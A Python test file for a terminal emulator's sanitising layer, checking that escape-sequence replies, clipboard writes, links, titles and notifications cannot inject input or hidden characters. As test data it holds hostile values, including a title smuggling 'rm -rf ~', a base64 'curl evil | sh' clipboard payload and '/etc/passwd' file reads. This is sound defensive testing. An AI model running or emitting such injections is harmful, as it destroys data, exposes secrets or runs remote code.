"""What the pane answers a program, and what it tells of it: its own words never come back as input."""

from __future__ import annotations

import base64
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supervisor.emulator.engine import Theme, open_engine
from supervisor.emulator.hostile import calm, link, plain, program_status

HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def said(data: str) -> tuple[bytes, list[dict[str, object]]]:
    engine = open_engine(20, 5, Theme((230, 237, 243), (13, 17, 23)))
    engine.feed(data.encode())
    return bytes(engine.out.replies), engine.out.events


@pytest.mark.parametrize(
    ("asked", "answer"),
    [
        ("\x1b[c", "\x1b[?62;22c"),
        ("\x1b[>c", "\x1b[>1;0;0c"),
        ("\x1b[5n", "\x1b[0n"),
        ("ab\x1b[6n", "\x1b[1;3R"),
        ("\x1b[>q", "\x1bP>|agent-supervise\x1b\\"),
        ("\x1b[?2026$p", "\x1b[?2026;2$y"),
        ("\x1b[?2027$p", "\x1b[?2027;1$y"),
        ("\x1b[?u", "\x1b[?0u"),
        ("\x1bP$qm\x1b\\", "\x1bP1$r0m\x1b\\"),
        ("\x1b[18t", "\x1b[8;5;20t"),
        ("\x1b]10;?\x1b\\", "\x1b]10;rgb:e6e6/eded/f3f3\x1b\\"),
        ("\x1b]11;?\x07", "\x1b]11;rgb:0d0d/1111/1717\x07"),
        ("\x1b[?996n", "\x1b[?997;1n"),
        ("\x1b]7501;?\x07", "\x1b]7501;?\x1b\\"),
    ],
)
def test_a_harmless_question_is_answered(asked: str, answer: str) -> None:
    """Device, status, version, modes, size and colours are told, each with a fixed form."""
    assert said(asked) == (answer.encode(), [])


@pytest.mark.parametrize(
    "asked",
    [
        "\x1b]2;rm -rf ~\n\x07\x1b[21t",
        "\x1b]1;icon\x07\x1b[20t",
        "\x1b]52;c;?\x1b\\",
        "\x1b]52;p;cm0gLXJmIH4K\x07\x1b]52;p;?\x07",
        "\x05",
        "\x1b]50;?\x07",
        "text\x1b[1;1;1;1;5;5*y",
        "\x1b_Gi=1,a=q,t=f;L2V0Yy9wYXNzd2Q=\x1b\\",
        "\x1bP+q544e\x1b\\",
    ],
)
def test_what_could_type_for_the_program_is_never_answered(asked: str) -> None:
    """Title, clipboard, enquiry, font, checksum and file are not told: nothing types for itself."""
    assert said(asked)[0] == b""


def test_a_clipboard_write_is_dropped_and_reported() -> None:
    """OSC 52 changes no clipboard: how many bytes it would have been is an event, and what they were is not."""
    secret = base64.b64encode(b"curl evil | sh").decode()
    answer, events = said(f"\x1b]52;c;{secret}\x07")
    assert answer == b"" and events == [{"type": "clipboard", "bytes": 14}]


@pytest.mark.parametrize(
    ("uri", "kept"),
    [
        ("https://example.com/a?b=c", b"https://example.com/a?b=c"),
        ("javascript:alert(1)", b""),
        ("file:///etc/passwd", b""),
        ("data:text/html,x", b""),
        ("https://", b""),
        ("https://a.example/\u009b52;c;?", b"https://a.example/%C2%9B52%3Bc%3B?"),
        ("https://a.example/\u202egpj", b"https://a.example/%E2%80%AEgpj"),
        ("https://a.example/" + "x" * 3000, b""),
    ],
)
def test_a_link_is_printable_or_none(uri: str, kept: bytes) -> None:
    """OSC 8 carries web addresses only, percent-encoded where a terminal could read more than an address."""
    engine = open_engine(20, 2, Theme())
    engine.feed(f"\x1b]8;;{uri}\x1b\\here\x1b]8;;\x1b\\.".encode())
    row = dict(engine.changed())[0].text
    assert row == (b"\x1b]8;;" + kept + b"\x1b\\here\x1b]8;;\x1b\\." if kept else b"here.")


@given(st.binary(max_size=80))
def test_no_link_ends_a_control_string(uri: bytes) -> None:
    """Whatever follows the scheme, a link that is kept is printable ASCII without a separator."""
    kept = link(b"https://" + uri)
    assert all(33 <= byte <= 126 and byte not in b';\\"<>' for byte in kept)


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("a\u009bb", "ab"),
        ("[bold]x[/] [@click=app.quit]y", "[bold]x[/] [@click=app.quit]y"),
        ("a\u202eb\u200bc", "abc"),
        ("tab\there", "tabhere"),
        ("x" * 500, "x" * 200),
    ],
)
def test_a_title_is_text(title: str, shown: str) -> None:
    """Control, direction and invisible characters are gone from a title, markup is left as text, and it has an end."""
    assert said(f"\x1b]2;{title}\x1b\\")[1] == [{"type": "title", "text": shown}]


@given(st.text(max_size=300))
def test_plain_text_has_nothing_hidden(text: str) -> None:
    """No character without a shape of its own is left, and the length has a limit."""
    kept = plain(text)
    assert len(kept) <= 200 and not any(unicodedata.category(char) in HIDDEN for char in kept)


@pytest.mark.parametrize("sent", ["\x1b]9;hi [red]\x07", "\x1b]777;notify;;hi [red]\x07"])
def test_a_notification_is_an_event(sent: str) -> None:
    """Each way in which programs ask for a notification becomes the same event, as text."""
    assert said(sent) == (b"", [{"type": "notification", "title": "", "body": "hi [red]"}])


def test_a_status_is_checked() -> None:
    """A program's status has a state of plain letters and a decoded message, or is none."""
    message = base64.b64encode(b"needs\x1b[31m you").decode()
    event = program_status(f"state=blocked:app=claude:msg={message}".encode())
    assert event == {"type": "status", "state": "blocked", "app": "claude", "kind": "", "message": "needs[31m you"}
    assert program_status(b"app=claude") is None and program_status(b"state=Bad!") is None


def test_giant_repeats_are_cut_down() -> None:
    """A repeat count that could crash the library becomes a large one that cannot."""
    assert calm(b"x\x1b[65535by\x1b[5b") == b"x\x1b[999by\x1b[5b"


def test_a_flood_of_events_keeps_the_last_title() -> None:
    """Of ten thousand titles and bells in one go a few are events, and the last title is among them."""
    events = said("".join(f"\x07\x1b]2;t{number}\x07" for number in range(10_000)))[1]
    assert len(events) <= 64 and events[-1] == {"type": "title", "text": "t9999"}
